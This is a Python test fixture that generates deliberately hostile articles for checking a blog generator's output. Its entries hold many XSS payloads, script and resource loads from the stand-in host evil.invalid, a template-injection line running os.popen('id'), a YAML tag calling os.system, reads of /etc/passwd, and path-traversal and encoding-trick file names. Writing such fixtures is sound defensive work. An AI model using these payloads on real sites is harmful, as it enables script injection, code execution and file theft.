"""Articles that want to run something, reach out or break out of where they stand.

``RUN`` sets a flag on the window and opens a dialog; every address is at ``evil.invalid``, which no
resolver knows. A test builds all of them, opens every page without its content security policy and
looks whether anything happened.
"""

# An attack reads best whole:
# ruff: noqa: E501

from __future__ import annotations

RUN = "window.__ran=1,alert(1)"
SCRIPT = f"<script>{RUN}</script>"
IMAGE = f"<img src=x onerror={RUN}>"
EVIL = "https://evil.invalid"


def write(body: str, title: str = "普通的标题", **front: str) -> str:
    """Write an article in front matter that YAML can read, whatever the values hold."""
    values = {"title": title, "date": "2022-07-20 10:00:00 +0800", "author": "某报", **front}
    lines = "".join(f"{key}: '{value.replace(chr(39), chr(39) * 2)}'\n" for key, value in values.items())
    return f"\n---\n{lines}---\n\n<div>\n{body}\n<p>看得见的正文。</p></div>\n"


BODIES = {
    "script": f"<p>前</p>{SCRIPT}<script src={EVIL}/x.js></script><ScRiPt >{RUN}</sCrIpT><scr\0ipt>{RUN}</scr\0ipt>"
    f"<<script>{RUN}//<</script><script/x>{RUN}</script/x><script\n>{RUN}</script\n>",
    "handlers": f"{IMAGE}<img/src/onerror={RUN}><img src=x one\0rror={RUN}><body onload={RUN}><p onmouseover={RUN}>移</p>"
    f"<input autofocus onfocus={RUN}><details open ontoggle={RUN}>开</details><video src=x onerror={RUN}></video>"
    f'<a onclick="{RUN}" href="#">点</a><p style="animation:x 1s" onanimationstart={RUN}>动</p><marquee onstart={RUN}>跑</marquee>'
    f'<img src=x alt="` onerror={RUN} `"><p tabindex=1 onfocus={RUN} autofocus>焦</p>',
    "addresses": "".join(
        f'<p><a href="{address}">点我</a></p>'
        for address in (
            f"javascript:{RUN}",
            f"JaVaScRiPt:{RUN}",
            f" \x01javascript:{RUN}",
            f"java\tscript:{RUN}",
            f"java&#10;script:{RUN}",
            f"javascript&colon;{RUN}",
            f"&#106;avascript:{RUN}",
            f"data:text/html,{SCRIPT}",
            f"data:text/html;base64,{'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='}",
            f"vbscript:{RUN}",
            "//evil.invalid/x",
            "\\\\evil.invalid\\x",
            "file:///etc/passwd",
            "view-source:https://evil.invalid",
            "blob:https://evil.invalid/1",
            "ithome://openmp?x",
            f'https://evil.invalid/?a="onmouseover={RUN}//',
        )
    )
    + f'<a href="{EVIL}" ping="{EVIL}/ping" target="_blank">链接</a><area href="javascript:{RUN}">',
    "svg": f"<svg onload={RUN}><script>{RUN}</script><a xlink:href='javascript:{RUN}'><text y=20>点</text></a>"
    f"<animate attributeName=href values=javascript:{RUN} /><set attributeName=onmouseover to={RUN} />"
    f"<foreignObject>{IMAGE}</foreignObject><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>"
    f"<math href='javascript:{RUN}'><mtext>算</mtext><annotation-xml encoding=text/html>{IMAGE}</annotation-xml></math>",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">'
    f'<svg></p><style><a id="</style>{IMAGE}"></a>'
    f'<noscript><p title="</noscript>{IMAGE}"></p></noscript>'
    f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}</style>"
    f'<p title="&lt;/p&gt;{IMAGE}">题</p><xmp><p title="</xmp>{IMAGE}"></p></xmp>'
    f'<textarea><p title="</textarea>{IMAGE}"></p></textarea><title><p title="</title>{IMAGE}"></p></title>'
    f"<!--><p>{IMAGE}--><![CDATA[><p>{IMAGE}]]><?x {IMAGE} ?><!-- --!>{IMAGE}-->"
    f"<select><template><b>{IMAGE}</b></template></select><table><tr><td><p>{IMAGE}</table>",
    "escaped": f"<p>&lt;script&gt;{RUN}&lt;/script&gt;</p><p>&amp;lt;img src=x onerror={RUN}&amp;gt;</p>"
    f"<p>＜script＞{RUN}＜/script＞</p><p>\ufe64script\ufe65</p><pre>&lt;/pre&gt;&lt;script&gt;{RUN}&lt;/script&gt;</pre>",
    "reaching-out": f'<link rel=stylesheet href="{EVIL}/a.css"><link rel=prefetch href="{EVIL}/p"><style>@import "{EVIL}/b.css";</style>'
    f'<meta http-equiv=refresh content="0;url={EVIL}"><base href="{EVIL}/"><iframe src="{EVIL}"></iframe>'
    f'<iframe srcdoc="{SCRIPT}"></iframe><object data="{EVIL}/o"></object><embed src="{EVIL}/e">'
    f'<img src="{EVIL}/i.png" srcset="{EVIL}/i2.png 2x"><picture><source srcset="{EVIL}/s.webp"><img src="{EVIL}/t.png"></picture>'
    f'<video poster="{EVIL}/v.png" src="{EVIL}/v.mp4" autoplay></video><audio src="{EVIL}/a.mp3" autoplay></audio>'
    f'<table background="{EVIL}/bg.png"><tr><td style="background:url({EVIL}/c.png)">格</td></tr></table>'
    f'<p style="background-image:url(\'{EVIL}/d.png\')">底</p><input type=image src="{EVIL}/n.png"><img src="//evil.invalid/p.gif">'
    f'<form action="{EVIL}"><input name=a><button formaction="javascript:{RUN}">交</button></form>'
    f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>\">",
    "clobbering": '<form id=document name=location><input name=body></form><img name=cookie src=x><a id=main href="#main">主</a>'
    '<p id="content" class="e-content h-entry p-name">冒充</p><a rel="tag" class="p-category" href="../../../index.html">冒充</a>',
    "templates": "<p>{{ 7*7 }} {% raw %} <%= 7*7 %> ${7*7} #{7*7}</p>"
    "<p>{{ cycler.__init__.__globals__.os.popen('id').read() }}</p><p>{% include '/etc/passwd' %}{% endraw %}{# #}</p>",
}

MARKDOWN = (
    f'[点](javascript:{RUN}) <javascript:{RUN}> ![图](x"onerror="{RUN}) [题](https://evil.invalid "\\"onclick={RUN} ")\n\n'
    f"{SCRIPT}\n\n`{SCRIPT}`\n\n```html\n</code></pre>{SCRIPT}\n```\n\n[r]: javascript:{RUN}\n\n[r]\n"
)

BREAK_OUT = f'"><script>{RUN}</script>'
TITLES = {
    "title-attribute": f"引号{BREAK_OUT}\"' onmouseover={RUN} x='",
    "title-element": f"标题</title>{SCRIPT}</h1></head><body>{SCRIPT}",
    "title-json": f'数据</script>{SCRIPT}<!--<script>\u2028\\u003c"}}]',
    "title-cdata": f"结尾]]>{SCRIPT}<![CDATA[&entity;&#x3c;script&#x3e;",
    "title-direction": "\u202e反\u2066向\u200b\u0007\ufeff标题",
    "title-template": "{{ 7*7 }}{% raw %}<%= 7*7 %>",
}


def list_hostile_articles() -> dict[str, str | bytes]:
    """List them all by file name; several file names are attacks themselves."""
    files: dict[str, str | bytes] = {f"body-{name}.html": write(body) for name, body in BODIES.items()}
    files |= {f"{name}.md": write("<p>文</p>", title) for name, title in TITLES.items()}
    return files | {
        "markdown.md": write("").replace("<div>\n", MARKDOWN),
        "tag.html": f'\n---\ntitle: 标签\ndate: 2022-07-21\ntags:\n - \'{BREAK_OUT}\'\n - "</script>{IMAGE}"\n - "../../index"\n - "javascript:{RUN}"\n---\n<p>文</p>',
        "author.html": write("<p>文</p>", author=f"{BREAK_OUT}{IMAGE}</script>"),
        "date.html": write("<p>文</p>", date=f"2022-07-20{BREAK_OUT}"),
        "origin.html": write("<p>文</p>", **{"from": f"javascript:{RUN}", "url": f"https://evil.invalid/{BREAK_OUT}", "link": f"javascript:{RUN}"}),
        "front.html": write("<p>文</p>", headimg=f"javascript:{RUN}", thumbnail=BREAK_OUT, categories=BREAK_OUT, layout=BREAK_OUT),
        "yaml.html": f"\n---\ntitle: !!python/object/apply:os.system ['true']\ndate: 2022-07-20\nx: &a [*a]\n---\n<p>文</p>{SCRIPT}",
        "harvest.html": write(
            f'<p class="url">责任编辑：{IMAGE}&lt;script&gt;{RUN}&lt;/script&gt;</p><p class="bqian">话题标签：'
            f'<a href="javascript:{RUN}">&lt;img src=x onerror={RUN}&gt;</a><a>"&gt;{SCRIPT}</a></p>',
            author="快科技（原驱动之家）",
        ),
        "restored.html": write(f'<p><img alt="名字&quot;&gt;{SCRIPT}" src="https://evil.invalid/a.png"></p>', "名字___script_"),
        f'"><img src=x onerror={RUN}>.html': write("<p>名字就是攻击</p>"),
        "'onmouseover='1' [a] {b}.md": write("<p>引号与括号</p>"),
        "\u202etxt.徕卡.html": write("<p>反向</p>"),
        "javascript:alert(1).html": write("<p>冒号</p>"),
        "%2e%2e%2fetc%2fpasswd.html": write("<p>百分号</p>"),
        "gbk.html": write("<p>半个字符</p>").encode("gb18030") + b"<p title=\x81\"><img src=x onerror=alert(1)>\"</p>",
        "utf7.txt": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "utf16.html": f"<p>宽</p>{SCRIPT}".encode("utf-16"),
    }  # fmt: skip
